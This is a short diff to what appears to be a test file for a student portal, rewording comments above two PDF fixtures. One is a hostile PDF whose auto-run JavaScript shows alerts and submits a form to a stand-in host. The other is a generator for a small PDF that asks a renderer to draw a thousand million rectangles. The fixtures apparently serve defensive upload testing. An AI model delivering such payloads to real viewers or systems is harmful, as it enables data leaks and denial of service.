@@ -5,7 +5,7 @@ import { newCall, readyDrafts, sendDraft } from './support/applied';
 import { demo, signIn } from './support/people';
 import { expect, expectAccessible, test } from './support/portal-test';
 
-/** A PDF whose page is drawn, and that would run a script, open an address and start a program where a viewer let it. */
+/** A PDF that renders, and that would run a script, open a URL and start a program if the viewer allowed it. */
 const HOSTILE = Buffer.from(`%PDF-1.7
 1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://students.invalid/"\\);)>>/AA<</WC<</S/JavaScript/JS(app.alert\\(2\\))>>>>/Names<</JavaScript<</Names[(a) 5 0 R]>>>>>>endobj
 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
@@ -18,7 +18,7 @@ trailer<</Root 1 0 R>>
 %%EOF
 `);
 
-/** Two kilobytes whose page asks for a thousand million rectangles: forms that draw the next one ten times each. */
+/** A PDF of two kilobytes that draws a thousand million rectangles: nested form objects, each drawing the next one ten times. */
 function endless(levels = 9): Buffer {
   const stream = (dictionary: string, body: string) => `<<${dictionary}/Length ${String(body.length)}>>stream\n${body}endstream`;
   const form = (level: number) =>
